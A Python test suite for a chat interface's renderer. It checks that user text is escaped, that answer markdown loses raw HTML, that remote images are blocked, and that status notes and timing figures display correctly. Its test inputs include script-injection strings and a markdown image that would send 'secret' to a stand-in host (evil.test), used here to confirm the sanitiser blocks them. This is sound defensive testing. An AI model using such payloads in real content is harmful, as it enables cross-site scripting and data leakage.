"""What is shown: a user's text exactly, an answer without anything that loads or hides."""

import html
import re
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.chat.message import Message, MessageState, Role, Seen
from app.ui.markdown import show_answer
from app.ui.render import figures, live_rows, rows, waiting_for
from app.ui.verbatim import show_verbatim
from engine.metrics import Timings
from tests.fakes_chat import FakeAnswer

NASTY = [
    "<b>bold</b> & <script>alert(1)</script> a<b",
    "$5 to $10, $$x$$, \\(y\\) and \\[z\\]",
    "    four spaces\n\ttab\n  two   inside  \n\n\nend  ",
    "# not a title\n- not a list\n1. nor this\n> nor that\n---\n```\nnor code\n```",
    "[link](http://evil.test) ![image](http://evil.test/a.png) <http://evil.test>",
    "www.evil.test someone@evil.test http://evil.test",
    "&lt;b&gt; &amp; &#x0003C; &nbsp;",
    "👩‍👩‍👧‍👦 مرحبا بالعالم שלום \u200b\u202eabc e\u0301",
    "*a* _b_ ~~c~~ `d` | e | f^2 ==g==",
    "\n\nlines around\n\n",
    "a\u00a0b\u2028c\x0bd",
]


def as_typed(markdown: str) -> str:
    """What the page's script puts on the clipboard."""
    return re.sub(r"&#x(0[0-9A-F]{4});", lambda match: chr(int(match[1], 16)), markdown)


def answer(content: str = "", **changes: Any) -> Message:
    return Message(
        message_id="m",
        conversation_id="c",
        parent_id="u",
        role=Role.ASSISTANT,
        content=content,
        created_at=0.0,
        **changes,
    )


def text_of(row: dict[str, Any]) -> str:
    text: str = row["content"][0]["text"]
    return text


@pytest.mark.parametrize("text", NASTY)
def test_a_users_text_comes_back_from_its_spelling(text: str) -> None:
    assert as_typed(show_verbatim(text)) == text


@given(st.text(alphabet=st.characters(max_codepoint=0xFFFF, exclude_categories=["Cs", "Cc"])))
def test_no_character_of_a_user_is_left_for_markdown(text: str) -> None:
    shown = show_verbatim(text)
    assert as_typed(shown) == text
    outside = re.sub(r"&#x[0-9A-F]{5};", "x", shown)
    assert not re.search(r"[!-/:-@\[-`{-~\n\t]|^ | $|  ", outside)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("plain **bold** text", "plain **bold** text"),
        ("use <b> here", "use &#x0003C;b> here"),
        ("<form action=x><input>", "&#x0003C;form action=x>&#x0003C;input>"),
        ("`<b>` stays", "`<b>` stays"),
        ("``a ` <b>`` stays", "``a ` <b>`` stays"),
        ("```html\n<b>\n```\n<i>", "```html\n<b>\n```\n&#x0003C;i>"),
        ("~~~\n<b>\n", "~~~\n<b>\n"),
        ("- item\n  ```\n  <b>\n  ```\n<i>", "- item\n  ```\n  <b>\n  ```\n&#x0003C;i>"),
        ("\\(a < b\\)", "\\(a \\lt  b\\)"),
        ("<https://example.org/a>", "<https://example.org/a>"),
        ("a ` lone tick <b>\n\n`", "a ` lone tick &#x0003C;b>\n\n`"),
        ("[a]: x '\n```\n<b>\n```", "&#x0005B;a]: x '\n```\n<b>\n```"),
        ("[a\n```\n]: x\n```\n", "&#x0005B;a\n```\n]: x\n```\n"),
        ("![a][ref]", "&#x00021;[a][ref]"),
        ("I paid $5 and $10", "I paid $5 and $10"),
    ],
)
def test_an_answer_keeps_its_markdown_and_loses_its_html(written: str, shown: str) -> None:
    assert show_answer(written) == shown


def test_a_diagram_makes_no_elements_of_its_labels() -> None:
    shown = show_answer('```mermaid\nA["<img src=x>"] <--> B[</b>]\nB <|-- C\n```\n')
    assert shown == '```mermaid\nA["#lt;img src=x>"] <--> B[#lt;/b>]\nB <|-- C\n```\n'
    assert show_answer("```html\n<b>mermaid\n```") == "```html\n<b>mermaid\n```"


COVER = "<div style='position:fixed'>cover</div>"


@pytest.mark.parametrize(
    "before",
    [
        "``` a`b\n",
        "http://a`",
        "x~`",
        "$$ `$$",
        "text\n~~~",
        "- `a\n- ",
        "`a\n\n",
        "`a\n# ",
        "`` a\n`` ",
        "\\`",
        "[a](`) ",
        "[a](x '\n`') ",
        "| a | b |\n|---|---|\n| `a | ",
        "text\n    ```\n",
        "text\n2. a\n    ```\n",
        "- - -\n\n  text\n    ```\n",
        "- ```\n",
        "- a\n  ```\n",
        "> ```\n",
        "> - a\n>   ```\n> ",
        "text\n2. ```\n   b\n   ```\n   ",
        "```\na\n   ```\n",
        "```\na\n```~~\n",
        "$$\n```\n$$\n",
        "```\n$$\n```\n$$\n```\n",
        "```\ra\r```\r",
        "a\u2028```\n",
    ],
)
@pytest.mark.parametrize("after", ["", " `", "\n```", "\n    ```\n"])
def test_what_only_looks_like_code_lets_no_html_through(before: str, after: str) -> None:
    assert "<div" not in show_answer(f"{before}{COVER}{after}")


@pytest.mark.parametrize(
    "text",
    [
        "````\n```\n<b>\n```\n````",
        "```\n<b>\n~~~\n  <i>\n``\n```",
        "1. Build:\n    ```sh\n    a <b>\n    ```",
        "1. Build:\n\n    ```sh\n    a <b>\n\n    c <d>\n    ```",
        "2. Build:\n   ```sh\n   a <b>\n   ```\n3. Run:\n   ```sh\n   c <d>\n   ```",
        "> ```\n> <b>\n> ```",
        "- ```\n  <b>\n  ```",
        "Use `<b>` and ``<i>`` here",
        "| a |\n|---|\n| `<b>` |",
    ],
)
def test_what_is_code_stays_as_written(text: str) -> None:
    assert show_answer(text) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](http://evil.test/?d=secret)", "[image blocked: evil.test]"),
        ('![x]( <http://evil.test/a b> "t")', "[image blocked: evil.test]"),
        ("![](https://user:pw@evil.test:8/a.png)", "[image blocked: evil.test]"),
        ("![x](data:image/png;base64,AAAA)", "[image blocked: no address]"),
        ("![x](http://[bad)", "[image blocked: no address]"),
        ("see ![x](//evil.test/a) there", "see [image blocked: evil.test] there"),
    ],
)
def test_an_image_is_named_and_never_loaded(written: str, shown: str) -> None:
    assert html.unescape(show_answer(written)) == shown


def test_thinking_stands_apart_from_the_answer() -> None:
    thinking, said = rows([answer("Yes.", thinking="Hm <b>")])
    assert thinking["metadata"] == {"title": "Thinking", "status": "done"}
    assert text_of(thinking) == "Hm &#x0003C;b>"
    assert text_of(said) == "Yes."


@pytest.mark.parametrize(
    ("state", "note"),
    [
        (MessageState.STOPPED, "Stopped"),
        (MessageState.INTERRUPTED, "Interrupted: the app closed while this was written"),
    ],
)
def test_an_answer_that_did_not_end_by_itself_says_so(state: MessageState, note: str) -> None:
    (row,) = rows([answer("Half", state=state)])
    assert html.unescape(text_of(row)) == f'Half\n\n<p class="note">{note}</p>'


def test_a_failure_shows_its_sentence() -> None:
    (row,) = rows([answer(state=MessageState.FAILED, notice="The <disk> is full.")])
    assert html.unescape(text_of(row)) == '<p class="note failed">The <disk> is full.</p>'
    assert "<disk>" not in text_of(row)


def test_a_note_after_an_open_fence_is_not_code() -> None:
    for content in ("```python\nprint(1)", "Look:\n\n```\na\n```\n\n```sh\nls\n"):
        (row,) = rows([answer(content, state=MessageState.STOPPED)])
        assert '\n```\n\n<p class="note">' in text_of(row)


def test_a_closed_fence_is_left_alone() -> None:
    (row,) = rows([answer("```\na\n```", state=MessageState.STOPPED)])
    assert text_of(row).startswith('```\na\n```\n\n<p class="note">')


def test_the_figures_are_those_that_were_measured() -> None:
    timings = Timings(prefilled_tokens=32, cached_tokens=380, ttft_ms=412, tpot_ms=32.05)
    assert figures(answer(timings=timings.as_json())) == (
        "31.2 tokens/s\u00a0· 32 of 412 tokens read, 380 still in memory\u00a0· first token 0.4 s"
    )
    assert figures(answer(timings={"prefilled_tokens": 12, "of_a_later_version": 1})) == (
        "12 tokens read"
    )
    assert figures(answer()) == ""


def test_waiting_reading_and_writing_are_told_apart() -> None:
    empty = answer(state=MessageState.STREAMING)
    waits = [
        FakeAnswer(message=empty, num_prompt_tokens=4000, num_prompt_tokens_read=read)
        for read in (0, 1024, 4000)
    ]
    assert [waiting_for(one) for one in waits] == [
        "Waiting for the model…",
        "Reading your message… 1,024 of 4,000 tokens",
        "Writing…",
    ]


def test_a_running_answer_shows_thinking_then_text() -> None:
    thinking = answer(state=MessageState.STREAMING, thinking="Hm")
    (row,) = live_rows(FakeAnswer(message=thinking))
    assert row["metadata"]["status"] == "pending"
    first, second = live_rows(
        FakeAnswer(message=answer("Yes", state=MessageState.STREAMING, thinking="Hm"))
    )
    assert (first["metadata"]["status"], text_of(second)) == ("done", "Yes")


def test_what_came_back_is_told_with_its_place_and_time() -> None:
    timings = Timings(
        prefilled_tokens=412,
        cached_tokens=98,
        restored_tokens=7680,
        restored_from="disk",
        restore_ms=95.2,
        is_reproducible=True,
    )
    assert figures(answer(timings=timings.as_json())) == (
        "412 of 8,190 tokens read, 98 still in memory, 7,680 restored from disk in 95 ms"
        "\u00a0· reproducible"
    )
    from_ram = Timings(prefilled_tokens=1, restored_tokens=9, restored_from="ram", restore_ms=1200)
    assert "9 restored from RAM in 1.2 s" in figures(answer(timings=from_ram.as_json()))


def test_the_mark_stands_before_the_first_message_that_is_sent() -> None:
    messages = [
        replace(answer(f"{number}"), message_id=f"m{number}", role=Role.USER) for number in range(4)
    ]
    shown = rows(messages, Seen(first_id="m2"))
    assert [index for index, row in enumerate(shown) if "no longer sees" in str(row)] == [2]
    assert len(shown) == 5
    assert len(rows(messages, Seen(first_id="elsewhere"))) == len(rows(messages)) == 4


def test_a_summary_is_shown_as_it_is() -> None:
    (mark, _) = rows([answer("x")], Seen(first_id=answer().message_id, summary="<b>!</b>"))
    assert show_verbatim("<b>!</b>") in mark["content"][0]["text"]


def test_what_comes_before_an_answer_is_told_in_its_place() -> None:
    doing = FakeAnswer(message=answer(state=MessageState.STREAMING), doing="Summing up 2 turns…")
    assert "Summing" in waiting_for(doing)
